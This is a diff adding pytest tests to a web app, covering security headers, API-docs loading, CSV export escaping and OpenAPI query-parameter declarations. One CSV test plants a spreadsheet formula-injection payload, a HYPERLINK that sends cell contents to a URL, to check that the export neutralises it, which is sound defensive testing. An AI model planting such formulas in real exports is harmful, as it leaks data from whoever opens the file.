@@ -1,9 +1,21 @@
+import csv
+import io
 import json
+import re
+from collections.abc import Callable
+from typing import Any
 
+import httpx
 import pytest
+from fastapi.dependencies.models import Dependant
+from fastapi.routing import APIRoute
+from starlette.datastructures import QueryParams
 
 from coercionwatch.ingest import read_records
+from coercionwatch.web import create_app
 from tests.helpers import write_json
+
+from .conftest import SITE, serve
 
 PAGES = [
     "/",
@@ -188,3 +200,154 @@ def test_new_records_appear_without_a_restart(client, demo_store, tmp_path):
     demo_store.import_records(read_records([write_json(tmp_path / "p.json", record)]), author="t")
     assert client.get("/api/provision/new-rule").json()["record"]["summary"] == "Fresh."
     assert json.loads(client.get("/provision/new-rule.json").text)["id"] == "new-rule"
+
+
+# --- what the answers tell browsers
+
+
+def _policy_sources(policy: str) -> dict[str, list[str]]:
+    directives = [part.split() for part in policy.split(";")]
+    return {name: sources for name, *sources in directives}
+
+
+def _assert_security_headers(answer, where) -> None:
+    sources = _policy_sources(answer.headers["content-security-policy"])
+    assert sources["default-src"] == ["'none'"], where
+    assert sources["frame-ancestors"] == ["'none'"] and sources["base-uri"] == ["'none'"], where
+    # Nothing from another host: every source is this site, none, or the page itself.
+    allowed = {"'self'", "'none'", "data:"}
+    assert {s for listed in sources.values() for s in listed} <= allowed, where
+    assert answer.headers["x-content-type-options"] == "nosniff", where
+    assert answer.headers["referrer-policy"] == "no-referrer", where
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "status"),
+    [
+        ("GET", "/", 200),
+        ("GET", "/incident/eo-14203-designations-2025", 200),
+        ("GET", "/api/incidents", 200),
+        ("GET", "/actor/nobody", 404),
+        ("GET", "/api/actor/nobody", 404),
+        ("GET", "/planet/x.json", 404),
+        ("GET", "/incidents?from=yesterday", 422),
+        ("GET", "/api/timeline?kind=planet", 422),
+        ("GET", "/static/style.css", 200),
+        ("GET", "/static/missing.css", 404),
+        ("GET", "/data/measure.csv", 200),
+        ("GET", "/feed.atom", 200),
+        ("GET", "/api/openapi.json", 200),
+        ("GET", "/api/docs", 200),
+        ("GET", "/api/docs/files/swagger-ui-bundle.js", 200),
+        ("HEAD", "/static/style.css", 200),
+        ("POST", "/api", 405),
+    ],
+)
+def test_every_answer_carries_the_security_headers(client, method, path, status):
+    answer = client.request(method, path)
+    assert answer.status_code == status
+    _assert_security_headers(answer, path)
+
+
+def test_a_server_error_carries_the_security_headers(demo_store):
+    app = create_app(demo_store, site=SITE)
+
+    def broken() -> None:
+        raise RuntimeError("a bug")
+
+    for path in ("/api/x/broken/route", "/x/broken/route"):  # past the catch-all routes
+        app.add_api_route(path, broken)
+    for url in serve(app):
+        for path in ("/api/x/broken/route", "/x/broken/route"):
+            answer = httpx.get(url + path, timeout=20)
+            assert answer.status_code == 500
+            _assert_security_headers(answer, path)
+        assert httpx.get(url + "/api/x/broken/route").json() == {"error": "Internal server error."}
+        assert "<main" in httpx.get(url + "/x/broken/route").text
+
+
+def test_api_docs_load_only_files_of_this_site(client):
+    docs = client.get("/api/docs")
+    assert _policy_sources(docs.headers["content-security-policy"])["img-src"] == [
+        "'self'",
+        "data:",
+    ]
+    loaded = re.findall(r"""(?:src|href)="([^"]+)\"""", docs.text)
+    assert len(loaded) == 3 and "<script>" not in docs.text  # no inline script either
+    for path in loaded:
+        assert path.startswith("/api/docs/files/"), path
+        assert client.get(path).status_code == 200, path
+
+
+def test_csv_download_runs_no_formula(client, demo_store, tmp_path):
+    planted = {
+        "kind": "provision",
+        "id": "planted",
+        "instrument": '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Open")',
+        "summary": "Fine; @SUM(1+1)",
+    }
+    demo_store.import_records(read_records([write_json(tmp_path / "p.json", planted)]), author="t")
+    rows = list(csv.DictReader(io.StringIO(client.get("/data/provision.csv").text)))
+    row = next(row for row in rows if row["id"] == "planted")
+    assert row["instrument"] == "'" + planted["instrument"]
+    assert row["summary"] == "Fine;' @SUM(1+1)"  # a cell of its own where `;` splits
+
+
+# --- OpenAPI
+
+
+SAMPLE_PATH_PARAMETERS = {
+    "slug": "eo-14203-designations-2025",
+    "kind": "actor",
+    "record_id": "kimberly-prost",
+    "section": "measures",
+    "fmt": "json",
+}
+
+
+def _declared_query(dependant: Dependant) -> set[str]:
+    """The query parameters a route declares, its dependencies' included."""
+    names = {field.alias for field in dependant.query_params}
+    return names.union(*(_declared_query(d) for d in dependant.dependencies))
+
+
+def test_openapi_declares_every_query_parameter_a_route_reads(demo_store, monkeypatch):
+    """Each route is called once while every read of the query string is noted; whatever a
+    route reads must be declared, so that OpenAPI lists it and clients can know it."""
+    read: set[str] = set()
+
+    def noting(method_name: str) -> Callable[..., Any]:
+        original = getattr(QueryParams, method_name)
+
+        def note(self: QueryParams, *args: Any, **kwargs: Any) -> Any:
+            read.add(args[0] if args else "*every parameter*")
+            return original(self, *args, **kwargs)
+
+        return note
+
+    for name in ("get", "getlist", "__getitem__", "__contains__"):
+        monkeypatch.setattr(QueryParams, name, noting(name))
+    for name in ("keys", "items", "values", "multi_items", "__iter__"):
+        monkeypatch.setattr(QueryParams, name, noting(name))
+
+    app = create_app(demo_store, site=SITE)
+    for url in serve(app):
+        spec = httpx.get(f"{url}/api/openapi.json", timeout=20).json()
+        reading = 0
+        for route in app.routes:
+            if not isinstance(route, APIRoute):
+                continue
+            declared = _declared_query(route.dependant)
+            if route.include_in_schema:
+                for method in route.methods:
+                    operation = spec["paths"][route.path][method.lower()]
+                    in_spec = {
+                        p["name"] for p in operation.get("parameters", []) if p["in"] == "query"
+                    }
+                    assert in_spec == declared, route.path
+            for method in route.methods:
+                read.clear()
+                httpx.request(method, url + route.path.format(**SAMPLE_PATH_PARAMETERS))
+                assert read <= declared, (route.path, read - declared)
+                reading += bool(read)
+        assert reading >= 6  # the incident, timeline and search pages and their API twins
